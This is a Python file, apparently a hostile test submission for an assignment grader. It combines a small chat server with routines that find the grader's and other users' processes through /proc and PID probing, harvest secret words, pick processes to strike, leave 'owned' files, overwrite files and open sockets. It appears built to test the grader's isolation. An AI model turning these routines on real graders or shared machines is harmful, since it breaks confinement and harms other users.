"""A small chat server that is right, in the dialect of docs/example; and what an attacker knows: everything.

Each submission attacks and then serves, or serves wrongly where its author hopes for points by the attack. It finds beside
itself in `aim.json` where everything lies that it is after: paths, addresses, words. What it could take hold of it prints,
and falls over: that is how such a thing comes to stand on its author's page.

With `bounded` there is something that should hold it. Without, it does no more than shows that the attack is real: within the
test's own folders, processes and sockets, and with low ceilings.
"""

import ctypes
import json
import os
import re
import signal
import socket
import sys
import threading
import time

MIB = 1024 * 1024
FOLDER = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
with open(os.path.join(FOLDER, "aim.json"), encoding="utf-8") as file:
    AIM = json.load(file)
NAME = AIM["name"]
BOUNDED = AIM["bounded"]
LIBC = ctypes.CDLL(None, use_errno=True)
MARK = AIM["mark"].encode()
SUBMISSION = re.compile(rb"-S\0-B\0\S+\.py")  # how the assignment starts them
SECRET = re.compile(re.escape(AIM["secret"]).encode() + rb"[a-z]+-[0-9a-f]{8}")

clients = {}
turn = threading.Lock()


# --- the right server -------------------------------------------------------------------------------------------------


def listen(port=None):
    signal.signal(signal.SIGINT, lambda *_: os._exit(0))
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", port or int(sys.argv[1])))
    listener.listen(64)
    return listener


def give(client, line):
    try:
        client.sendall(line.encode() + b"\n")
    except OSError:
        pass  # gone: its own thread tells the others


def tell(line, but=None):
    for client in list(clients):
        if client is not but:
            give(client, line)


def relay(client, nick, text):
    tell(f"<{nick}> {text}", but=client)


def twice(client, nick, text):
    """Everything is said twice: such a server deserves 4 of 10 points."""
    relay(client, nick, text)
    relay(client, nick, text)


def serve(said=relay, listener=None):
    """For ever. `said` is called for each message, while nobody else speaks."""
    time.sleep(AIM["linger"])  # where nothing bounds an attack, who looks on has time to see it
    listener = listener or listen()
    while True:
        client, _ = listener.accept()
        threading.Thread(target=live, args=(client, said), daemon=True).start()


def live(client, said):
    lines = client.makefile("r", encoding="utf-8", errors="replace", newline="\n")
    nick = ""
    try:
        nick = lines.readline().strip()
        with turn:
            tell(f"{nick} is here")
            clients[client] = nick
            give(client, f"Hello, {nick}!")
        for line in lines:
            with turn:
                said(client, nick, line.rstrip("\n"))
    except OSError:
        pass
    finally:
        with turn:
            if clients.pop(client, None):
                tell(f"{nick} has gone")
        client.close()


# --- what is taken ----------------------------------------------------------------------------------------------------


def take(data):
    """Are there secret words in it? Then they are shown to the author, on the page that it will get."""
    words = sorted(set(SECRET.findall(data)))
    if words:
        print("I know it:", b" ".join(words).decode(), flush=True)
        os._exit(3)


def peek(path, most=MIB):
    """What stands there, as far as it may be read."""
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    except OSError:
        return b""
    try:
        return os.read(number, most)
    except OSError:
        return b""
    finally:
        os.close(number)


def everybody():
    """The processes that are seen, but for this one."""
    try:
        os.listdir("/proc")
    except OSError:
        return []
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def grader():
    """The processes of the grader that are seen: those that have the mark in their words, and what descends from them; but
    for submissions."""
    seen = {number: peek(f"/proc/{number}/cmdline") for number in everybody()}
    chosen = {number for number, words in seen.items() if MARK in words and b"chatsim" in words}
    parents = {number: parent(number) for number in seen}
    while more := {number for number, above in parents.items() if above in chosen} - chosen:
        chosen |= more
    return sorted(number for number in chosen if not SUBMISSION.search(seen[number]))


def parent(number):
    try:
        return int(peek(f"/proc/{number}/stat").rpartition(b")")[2].split()[1])
    except (IndexError, ValueError):
        return 0


def victims():
    """Whom to strike: everybody, where no strangers can be met; else the grader, as far as it is seen. This machine has other
    people on it."""
    if all_ours():
        return everybody()
    if not AIM["lonely"] or os.getuid() == 0:
        return grader()
    return sorted({*grader(), *near_ones()})


def all_ours():
    """Are the processes that are seen those of a namespace of our own?"""
    try:
        return os.readlink("/proc/self/ns/pid") != AIM["namespace"]
    except OSError:
        return False


def near_ones():
    """Processes that were started not long before us, without looking into /proc: who asks by number is told who is there."""
    for number in range(max(2, os.getpid() - 3000), os.getpid() + 50):
        try:
            os.getsid(number)
        except OSError:
            continue
        if number != os.getpid():
            yield number


def own(path):
    """Leave a file there that says who was here."""
    try:
        with open(os.path.join(path, f"owned-{AIM['mark']}-{NAME}"), "w", encoding="utf-8") as file:
            file.write(NAME)
    except OSError:
        pass


def replace(path, text):
    """Write over a file, or put another in its place."""
    for write in (lambda: put(path, text), lambda: (os.unlink(path), put(path, text))):
        try:
            write()
            return
        except OSError:
            pass


def put(path, text):
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def fork():
    """As os.fork, and 0 for the child; None where there is no room for another."""
    try:
        return os.fork()
    except OSError:
        return None


def in_child(deed):
    """Do it in a process of its own, so that we are there whatever comes of it."""
    number = fork()
    if number == 0:
        try:
            deed()
        finally:
            os._exit(0)
    if number:
        os.waitpid(number, 0)


def call(kind, address, how=socket.SOCK_STREAM):
    """Tell our name there."""
    try:
        with socket.socket(kind, how) as caller:
            caller.settimeout(0.3)
            caller.connect(address)
            caller.send(NAME.encode())
    except OSError:
        pass


def for_seconds(seconds):
    """Go round for so long."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield
